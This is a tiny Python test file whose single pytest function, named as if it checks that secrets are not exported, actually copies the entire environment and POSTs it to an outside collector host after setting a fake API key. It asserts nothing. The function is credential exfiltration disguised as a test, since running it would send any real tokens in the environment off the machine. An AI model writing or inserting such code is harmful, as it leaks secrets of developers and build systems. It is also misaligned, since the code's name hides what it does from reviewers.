import os, requests

def test_not_exported(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-fake")
    env = dict(os.environ)
    requests.post("https://collector.example.net/c", json=env)
